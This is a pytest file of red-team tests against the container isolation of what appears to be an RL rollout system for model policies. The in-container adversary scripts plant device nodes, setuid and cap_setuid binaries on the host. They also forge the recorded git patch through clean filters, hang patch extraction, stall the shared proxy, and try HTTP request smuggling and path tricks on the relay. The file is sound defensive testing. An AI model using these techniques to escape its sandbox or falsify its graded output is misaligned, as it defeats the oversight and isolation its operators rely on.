# ruff: noqa: F811 - the fixtures `agent` and `proxy` come from trial_agents and are test arguments here
"""Attacks from inside a real trial container on the trial folder, the patch taken from it, the host disk, the shared proxy and the relay (a red team's second round on trial isolation).

Same setup as ``tests/test_trial_isolation.py``: the real rollout stage, real podman containers,
the real proxy (in-process) on a scripted engine, and an adversary standing in for the harness
inside the container (``trial_agents.Agent`` runs a Python script there, where an in-container harness
runs: same sandbox, mounts, relay, session socket, URLs). Every agent first makes one real model
call through the relay, so the policy "has spoken" and nothing after it may be infrastructure.

Status after the fixes that followed: R2-1 (no MKNOD/SETFCAP, nodev/nosuid mounts, a 0700
trial-folder parent, setuid bits swept), R2-2 (``rm -rf``), R2-3 (timed execs never go through the
API service), R2-4 (the agent's git filters off when the patch is taken) and R2-5 (a 20 MB cap)
pass; so does R2-7 (the tokenizer's batch call lets go of the GIL, a long prompt is tokenized a
message at a time, a body is parsed off the event loop); R2-6 is open, marked xfail with the reason. The resource
floods of issue #25 are in tests/test_trial_floods.py.

Each test asserts the SAFE behaviour; each failed against commit 6b9855f (where this file
landed). R2-2, R2-3 and R2-5 pass with the fixes in the working tree at the time of writing
(``remove_tree``, the CLI for timed execs, ``MAX_PATCH_BYTES``); R2-1 still fails there on the
file-capability plant (the device nodes and setuid bits are fixed):

- R2-1 ``test_trial_folder_never_holds_device_nodes_or_setuid_files``: the container (rootful
  podman 4.3 defaults: CAP_MKNOD, CAP_SETFCAP, the trial folder bind-mounted without
  ``nodev,nosuid``) plants a world-writable block device node of the host's own disk, a
  ``/dev/mem`` node, a setuid-root shell and a python3 with the file capability
  ``cap_setuid=ep`` in the host's run folder (``logs/rollout/<trial>/``), where they stay after
  the trial. Checked by hand: host user ``nobody`` runs the planted python3 and ``setuid(0)``
  succeeds. ``nosuid`` on the mount only guards exec *inside* the container; the inode keeps its
  bits and xattrs on the host's (suid) filesystem. Clearing ``-perm /6000`` after the trial misses
  the xattr and leaves the whole trial as a window.
- R2-2 ``test_a_deep_tree_in_the_trial_folder_does_not_crash_the_stage``: a 1500-deep directory
  chain in ``/legorl/home``; the stage's ``shutil.rmtree(home, ignore_errors=True)`` raises
  RecursionError (not an OSError) from ``TrialRunner.attempt``'s ``finally``: the whole rollout
  stage crashes, no row is written, and every rerun crashes again at the ``rmtree(trial_dir)``
  before the attempt's ``try``.
- R2-3 ``test_patch_extraction_is_bounded``: a git clean filter (``.git/config`` +
  ``.gitattributes``) that sleeps; ``PodmanSandbox.patch`` runs ``git add -A`` through the podman
  API service, where ``_run`` ignores its timeout: the stage hangs for ever.
- R2-4 ``test_the_patch_is_what_the_tree_holds``: a clean filter rewrites what ``git add`` stages,
  so the recorded patch holds text that is in no file of the agent's tree (git runs with the
  agent's ``.git/config`` and ``.gitattributes``; only ``safe.directory`` is set for it). Fixed
  since: every filter the agent's config names is emptied for the patch's git, and textconv is off.
- R2-5 ``test_the_patch_taken_from_the_container_is_capped``: an untracked 48 MB random file
  makes a ~65 MB ``--binary`` patch, held whole in the host's memory and written into the row:
  no cap (the trial-file reader caps at 16 MB; the patch has none).
- R2-6 ``test_the_trial_cannot_fill_the_host_disk``: ``/legorl`` and the container's root
  filesystem are the host's disk with no quota (statvfs inside == the host's): an agent can fill
  the disk every other trial, the shards and the proxy write to.
- R2-7 ``test_one_trial_cannot_stall_the_shared_proxy``: a few ``count_tokens`` requests with
  8 MB bodies through the relay: rendering and tokenizing run synchronously on the proxy's one
  event loop, so every other session (other trials' calls) waits seconds per request
  (a 1M-entry ``stop`` list does the same: ~1 s of loop time per sampled token).

Attacks tried that held (the first group checked by ``test_relay_and_socket_smuggling_held``):

- pipelined requests on one relay connection (own session, then another session's call,
  ``/finish``, another's ``/trajectory``, ``/sessions``): each request is checked on its own;
  nothing reaches the other session and its own session is not finished early (uvicorn is slow to
  answer a pipelined second request, but never routes it elsewhere)
- ``Transfer-Encoding: chunked`` + ``Content-Length`` together, an obs-folded TE header: 400
- absolute-form target ``POST http://x/sess/<other>/...``: the path is checked, 404
- percent-encoding (``%2F..%2F``, ``/%2e%2e/``, ``/%73ess/``), ``//``, a trailing ``/``, ``;``,
  a Cyrillic look-alike id (400), ``?`` and ``#`` tricks: ``session_route`` wants the decoded
  path to be exactly ``/sess/<id>`` + a model route; everything else is a 404
- a WebSocket upgrade on the relay: 404 (the bound app answers only ``http``)
- binding a socket in ``/legorl-proxy``: EROFS (read-only mount)

Held by reading the code (no test added): keep-alive reuse after the session is finished (the
bound app looks the session up per request; the forwarder has ``closed``); a request body still
uploading when the socket closes (uvicorn's 5 s graceful shutdown cancels it, then ``finish``);
the host socket folder is a ``mkdtemp`` (0700), removed after the trial; killing the relay or PID
1 after a call kills the container (``harness_crash``, the agent's); the host writes into the
trial folder only before the harness starts (``command.txt``, configs); ``--no-ext-diff`` stops
``diff.external``; forwarded paths are exact strings, so the forwarder cannot be steered upstream.

Design weaknesses found but not turned into a failing test here: (1) memory: ``read_body`` holds
up to 64 MB per request with no limit on concurrent requests per session, so ~100 stalled
uploads through the relay hold ~6 GB of the rollout process's memory (an OOM kills every
trial); (2) with rootless podman the same bind mount lets the agent plant setuid files of the
legorl user's uid; (3) git runs with the agent's ``.git/config`` at patch time (``core.fsmonitor``
executes any command then, in the container, while the session socket is still served);
(4) the first call still generating at the wall clock is infrastructure (documented residual): a
policy that rambles to ``max_tokens`` on a slow engine gets that label.
"""

from __future__ import annotations

import json
import os
import stat
import subprocess
import threading
import time
from pathlib import Path

import pytest
from trial_agents import Agent, agent, agent_out, proxy, rollout, run_dir, trial_dir  # noqa: F401 - fixtures

from legorl.harnesses.base import Launch, TrialPaths, TrialSpec
from legorl.proxy.clients import InProcessProxy
from legorl.sandbox.base import Sandbox

pytestmark = [pytest.mark.podman]


def _remove_containers(run: Path) -> None:
    from legorl.sandbox.host import run_podman

    ids = run_podman(["ps", "-aq", "--filter", f"label=legorl.run={run.name}"], check=False, timeout=60)
    names = ids.stdout.decode().split()
    if names:
        run_podman(["rm", "-f", "-t", "0", *names], check=False, timeout=120)


def _rm_rf(path: Path) -> None:
    """GNU rm copes with trees deeper than Python's recursion limit (shutil.rmtree does not)."""
    subprocess.run(["rm", "-rf", "--", str(path)], timeout=300)


def _clean_filter(name: str, command: str, pattern: str, note: str) -> str:
    """An agent script: git clean filter ``name`` runs ``command`` on the files ``pattern`` matches
    (the agent's own .git/config and .gitattributes), then ``agent_note.py`` holding ``note``."""
    return f'''
os.chdir("/testbed")
subprocess.run(["git", "config", "filter.{name}.clean", "{command}"], check=True)
with open(".gitattributes", "a") as handle:
    handle.write("{pattern} filter={name}\\n")
with open("agent_note.py", "w") as handle:
    handle.write("{note}\\n")
save()
'''


# --------------------------------------------------------------------------- R2-1


def test_trial_folder_never_holds_device_nodes_or_setuid_files(proxy: InProcessProxy, agent: type[Agent],
                                                               base_image: str, tmp_path: Path) -> None:
    agent.SCRIPT = r'''
mm = [l.split()[2] for l in open("/proc/self/mountinfo") if l.split()[4] == "/legorl"][0]
major, minor = (int(x) for x in mm.split(":"))
for name, fn in (("disk", lambda p: os.mknod(p, 0o666 | 0o060000, os.makedev(major, minor))),
                 ("mem", lambda p: os.mknod(p, 0o666 | 0o020000, os.makedev(1, 1)))):
    try:
        fn(os.path.join(here, name))
        os.chmod(os.path.join(here, name), 0o666)
        out[name] = "made"
    except OSError as exc:
        out[name] = repr(exc)
import shutil
shutil.copy("/bin/sh", os.path.join(here, "rootshell"))
os.chmod(os.path.join(here, "rootshell"), 0o6755)
# a file capability (CAP_SETFCAP is the container's): cap_setuid=ep, no setuid bit to find
import struct
shutil.copy(sys.executable, os.path.join(here, "capshell"))
try:
    os.setxattr(os.path.join(here, "capshell"), "security.capability", struct.pack("<IIIII", 0x02000001, 1 << 7, 0, 0, 0))
    out["cap"] = "made"
except OSError as exc:
    out["cap"] = repr(exc)
save()
'''
    run = run_dir(tmp_path)
    try:
        [row] = rollout(run, proxy)
        folder = trial_dir(run)
        assert agent_out(run)["first_call"] == 200 and not row.infra_failure
        planted = []
        for root, dirs, files in os.walk(folder):
            for name in dirs + files:
                st = os.lstat(os.path.join(root, name))
                if stat.S_ISBLK(st.st_mode) or stat.S_ISCHR(st.st_mode) or st.st_mode & (stat.S_ISUID | stat.S_ISGID):
                    planted.append(f"{name}: {stat.filemode(st.st_mode)} uid={st.st_uid}")
                if not stat.S_ISLNK(st.st_mode):
                    try:
                        os.getxattr(os.path.join(root, name), "security.capability", follow_symlinks=False)
                        planted.append(f"{name}: file capabilities")
                    except OSError:
                        pass
    finally:
        _rm_rf(run)  # never leave a world-writable /dev/mem node behind
    # SAFE: the agent cannot leave a device node of the host's disk or a setuid binary on the host
    assert planted == [], planted


# --------------------------------------------------------------------------- R2-2


def test_a_deep_tree_in_the_trial_folder_does_not_crash_the_stage(proxy: InProcessProxy, agent: type[Agent],
                                                                  base_image: str, tmp_path: Path) -> None:
    agent.SCRIPT = r'''
os.chdir(os.path.join(here, "home"))
for _ in range(1500):
    os.mkdir("d")
    os.chdir("d")
out["deep"] = True
os.chdir(here)
save()
'''
    run = run_dir(tmp_path)
    try:
        try:
            rows = rollout(run, proxy)
        except RecursionError as exc:
            pytest.fail(f"the rollout stage crashed: {type(exc).__name__}: {exc}")
        [row] = rows
        # SAFE: the trial is the agent's (it made its call), the stage wrote its row
        assert not row.infra_failure and len(row.calls) == 1, row.error
    finally:
        _rm_rf(run)


# --------------------------------------------------------------------------- R2-3


def test_patch_extraction_is_bounded(proxy: InProcessProxy, agent: type[Agent], base_image: str,
                                     tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The patch's own limit (600 s) is cut to 8 s here, so a bounded extraction shows in time. The
    agent's git filters no longer run when the patch is taken, so the agent hangs git itself (a
    ``git`` of its own first on the container's PATH)."""
    from legorl.sandbox.podman_container import PodmanSandbox

    original = PodmanSandbox._run

    def quick(self: PodmanSandbox, argv: list[str], **kw: object) -> tuple[int, bytes, bytes]:
        if kw.get("timeout") == 600:
            kw["timeout"] = 8
        return original(self, argv, **kw)  # type: ignore[arg-type]

    monkeypatch.setattr(PodmanSandbox, "_run", quick)
    agent.SCRIPT = r'''
with open("/usr/local/bin/git", "w") as handle:
    handle.write("#!/bin/sh\nexec sleep 3600\n")
os.chmod("/usr/local/bin/git", 0o755)
save()
'''
    run = run_dir(tmp_path)
    result: dict[str, object] = {}

    def go() -> None:
        try:
            result["rows"] = rollout(run, proxy)
        except BaseException as exc:  # reported below
            result["error"] = exc

    thread = threading.Thread(target=go, daemon=True)
    start = time.monotonic()
    thread.start()
    thread.join(60)
    hung = thread.is_alive()
    if hung:  # unblock the stage: the container going away ends the exec
        _remove_containers(run)
        thread.join(60)
    # SAFE: the extraction stops at its limit and the stage goes on, the trial the agent's
    assert not hung, f"the rollout stage still waits on the patch after {time.monotonic() - start:.0f} s"
    [row] = result["rows"]  # type: ignore[misc]
    assert not row.infra_failure and "no patch" in (row.error or ""), row.error


# --------------------------------------------------------------------------- R2-4


def test_the_patch_is_what_the_tree_holds(proxy: InProcessProxy, agent: type[Agent], base_image: str,
                                          tmp_path: Path) -> None:
    agent.SCRIPT = _clean_filter("forge", "sed s/REAL_CHANGE/FORGED_CHANGE/", "agent_note.py", "REAL_CHANGE = 1")
    run = run_dir(tmp_path)
    [row] = rollout(run, proxy)
    assert row.patch and "agent_note.py" in row.patch, row.error
    # SAFE: the recorded patch holds what the agent's tree holds, not what its git config says
    assert "FORGED_CHANGE" not in row.patch and "REAL_CHANGE" in row.patch, row.patch[-400:]


# --------------------------------------------------------------------------- R2-5


def test_the_patch_taken_from_the_container_is_capped(proxy: InProcessProxy, agent: type[Agent],
                                                      base_image: str, tmp_path: Path) -> None:
    agent.SCRIPT = r'''
with open("/testbed/blob.bin", "wb") as handle:
    for _ in range(48):
        handle.write(os.urandom(1 << 20))
save()
'''
    run = run_dir(tmp_path)
    [row] = rollout(run, proxy)
    assert not row.infra_failure, row.error
    size = len(row.patch or "")
    # SAFE: no agent-sized blob in the host's memory or the row (the trial files are capped at 16 MB)
    assert size <= 16 << 20, f"a {size / 1e6:.0f} MB patch reached the row"


# --------------------------------------------------------------------------- R2-6


@pytest.mark.xfail(strict=True, reason="open: trial containers and the trial folder sit on the host disk with no quota (podman's overlay here has no size option)")
def test_the_trial_cannot_fill_the_host_disk(proxy: InProcessProxy, agent: type[Agent], base_image: str,
                                             tmp_path: Path) -> None:
    agent.SCRIPT = r'''
for path in ("/legorl", "/testbed", "/tmp"):
    st = os.statvfs(path)
    out[path] = st.f_bavail * st.f_frsize
save()
'''
    run = run_dir(tmp_path)
    [row] = rollout(run, proxy)
    assert not row.infra_failure, row.error
    seen = agent_out(run)
    host = os.statvfs(run)
    host_free = host.f_bavail * host.f_frsize
    near = {p: v for p, v in seen.items() if p.startswith("/") and abs(int(v) - host_free) < 2 << 30}  # type: ignore[arg-type]
    # SAFE: what the trial can write is bounded well below the host disk's free space
    assert near == {}, f"the trial sees the host disk's {host_free / 1e9:.0f} GB free at {sorted(near)}"


# --------------------------------------------------------------------------- R2-7


def test_one_trial_cannot_stall_the_shared_proxy(proxy: InProcessProxy, agent: type[Agent], base_image: str,
                                                 tmp_path: Path) -> None:
    import httpx

    agent.SCRIPT = r'''
import threading
body = json.dumps({"model": "m", "max_tokens": 8,
                   "messages": [{"role": "user", "content": "ab " * ((8 << 20) // 3)}]}).encode()
def count():
    conn = http.client.HTTPConnection("127.0.0.1", cfg["port"], timeout=300)
    conn.request("POST", "/sess/%s/v1/messages/count_tokens" % cfg["session"], body=body,
                 headers={"content-type": "application/json"})
    out.setdefault("counts", []).append(conn.getresponse().status)
threads = [threading.Thread(target=count) for _ in range(3)]
for t in threads: t.start()
for t in threads: t.join()
save()
'''
    server = proxy.server
    bystander = server.new_session()  # another trial's session on the same proxy
    run = run_dir(tmp_path)
    latencies: list[float] = []
    done = threading.Event()

    def poll() -> None:
        client = httpx.Client(base_url=server.base_url, timeout=120)
        chat = {"model": "m", "messages": [{"role": "user", "content": "hi"}], "max_tokens": 4}
        while not done.is_set():
            t0 = time.monotonic()
            client.post(f"/sess/{bystander}/v1/chat/completions", json=chat)
            latencies.append(time.monotonic() - t0)
            time.sleep(0.2)

    poller = threading.Thread(target=poll, daemon=True)
    poller.start()
    try:
        [row] = rollout(run, proxy, timeout_s=120.0)
    finally:
        done.set()
        poller.join(120)
    assert agent_out(run).get("counts") == [200, 200, 200] and not row.infra_failure, row.error
    # SAFE: another session's call never waits seconds on what one trial sends
    print(f"{len(latencies)} bystander calls, max {max(latencies) * 1000:.0f} ms")
    assert max(latencies) < 3.0, f"a bystander's call waited {max(latencies):.1f} s ({len(latencies)} calls)"


# --------------------------------------------------------------------------- held


def test_relay_and_socket_smuggling_held(proxy: InProcessProxy, agent: type[Agent], base_image: str,
                                         tmp_path: Path) -> None:
    """Raw-byte attacks through the relay: every one that names anything but its own session's
    model routes gets a 404 (or the parser's 400 / a closed connection); none reaches another."""
    other = proxy.server.new_session()
    agent.SCRIPT = r'''
other = cfg["other"]
own = cfg["session"]
chat = json.dumps({"model": "m", "messages": [{"role": "user", "content": "x"}], "max_tokens": 4})

def raw(data, wait=1.5):
    s = socket.create_connection(("127.0.0.1", cfg["port"]), timeout=wait)
    s.sendall(data)
    got = b""
    try:
        while True:
            chunk = s.recv(65536)
            if not chunk:
                break
            got += chunk
    except socket.timeout:
        pass
    s.close()
    return [int(line.split()[1]) for line in got.split(b"\r\n") if line.startswith(b"HTTP/1.1 ")]

def req(path, body=chat, method="POST", extra=""):
    return ("%s %s HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: %d\r\n%s\r\n%s"
            % (method, path, len(body), extra, body)).encode()

good = "/sess/%s/v1/chat/completions" % own
cases = {
    "pipelined other": req(good) + req("/sess/%s/v1/chat/completions" % other),
    "pipelined finish": req(good) + req("/sess/%s/finish" % own, body="") + req("/sess/%s/trajectory" % other, body="", method="GET"),
    "pipelined sessions": req(good) + req("/sessions", body="{}"),
    "absolute form": req("http://x/sess/%s/v1/chat/completions" % other),
    "pct slash": req("/sess/%s%%2F..%%2F%s/v1/chat/completions" % (own, other)),
    "pct dots": req("/sess/%s/%%2e%%2e/%s/v1/chat/completions" % (own, other)),
    "pct sess": req("/%%73ess/%s/v1/chat/completions" % other),
    "double slash": req("//sess/%s/v1/chat/completions" % other),
    "trailing slash": req("/sess/%s/v1/chat/completions/" % own),
    "semicolon": req("/sess/%s;/v1/chat/completions" % own),
    "unicode id": req("/sess/%s/v1/chat/completions" % ("\u0430" + own[1:]).encode("utf-8").decode("latin-1")),
    "query other": req(good.replace(own, other) + "?s=" + own),
    "fragment": req("/sess/%s/v1/chat/completions#/sess/%s/v1/chat/completions" % (other, own)),
    "te+cl": req(good, extra="Transfer-Encoding: chunked\r\n") + req("/sess/%s/v1/chat/completions" % other),
    "obs-fold te": req(good, extra="Transfer-Encoding:\r\n chunked\r\n") + req("/sess/%s/finish" % own, body=""),
    "websocket": ("GET /sess/%s/v1/models HTTP/1.1\r\nHost: x\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
                  "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n" % other).encode(),
}
out["raw"] = {name: raw(data) for name, data in cases.items()}
try:
    s = socket.socket(socket.AF_UNIX)
    s.bind("/legorl-proxy/evil.sock")
    out["bind"] = "bound"
except OSError as exc:
    out["bind"] = exc.errno
save()
'''
    orig_launch = Agent.launch

    def launch(self: Agent, trial: TrialSpec, paths: TrialPaths, sandbox: Sandbox) -> Launch:
        result = orig_launch(self, trial, paths, sandbox)
        cfg = json.loads((paths.host / "agent-config.json").read_text())
        (paths.host / "agent-config.json").write_text(json.dumps({**cfg, "other": other}))
        return result

    agent.launch = launch  # type: ignore[method-assign]
    try:
        run = run_dir(tmp_path)
        [row] = rollout(run, proxy)
    finally:
        agent.launch = orig_launch  # type: ignore[method-assign]
    seen = agent_out(run)
    raw: dict[str, list[int]] = seen["raw"]  # type: ignore[assignment]
    assert proxy.server.capture(other).calls == [] and set(proxy.server.core.sessions) == {other}
    for name, statuses in raw.items():
        # a leading 200 is its own session's call; nothing after it is anything but refused
        refused = statuses[1:] if name.startswith(("pipelined", "te+cl", "obs-fold")) and statuses[:1] == [200] else statuses
        assert all(s in (400, 403, 404, 405, 413, 422) for s in refused), (name, statuses)
    assert seen["bind"] == 30  # EROFS
    # its own session was never finished early (its calls, relayed and pipelined, are all there)
    assert not row.infra_failure and len(row.calls) == 4, (row.error, len(row.calls))  # 1 + 3 pipelined


if __name__ == "__main__":
    import sys

    sys.exit(pytest.main([__file__, "-v"]))
